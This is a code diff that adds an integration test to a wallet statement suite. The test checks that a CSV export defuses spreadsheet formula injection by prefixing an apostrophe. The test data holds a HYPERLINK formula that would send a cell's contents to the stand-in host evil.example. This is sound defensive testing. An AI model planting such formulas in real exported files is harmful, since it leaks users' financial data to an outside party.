@@ -356,6 +356,21 @@ describe('wallet statements and balance as of a time (real database)', () => {
       if (quoted) expect(response.text).toContain('"with ""quotes"", and a comma"');
     });
 
+    it('writes a description that a spreadsheet would run as a formula as text', async () => {
+      const z = await openAccount(t.http, tokenA, appA.appId, await createOwner(t.http, tokenA));
+      const formula = '=HYPERLINK("https://evil.example/?"&D3,"Ver reintegro")';
+      await t.dataSource.query(
+        `SELECT ledger_post($1, 'TEST', '+54911', $2, 'test:statement', ARRAY[$3::uuid, $4::uuid], ARRAY[1, -1], 'ARS')`,
+        [appA.appId, formula, z.uuid, y.uuid],
+      );
+      const query = { from: '2000-01-01T00:00:00Z', to: '2999-01-01T00:00:00Z' };
+      const rows = parseCsv((await statement(z.uuid, query).set('Accept', 'text/csv')).text);
+      expect(rows[2].slice(6)).toStrictEqual(['TEST', "'+54911", `'${formula}`]);
+      // The JSON answer keeps the text as written.
+      const json = (await statement(z.uuid, query)).body as Statement;
+      expect(json.movements.map((m) => [m.reference, m.description])).toStrictEqual([['+54911', formula]]);
+    });
+
     it('writes RFC 4180 quoting for a description with a comma, quotes and a line break', async () => {
       const z = await openAccount(t.http, tokenA, appA.appId, await createOwner(t.http, tokenA));
       const description = 'pago "urgente", cuota 1\nde 3';
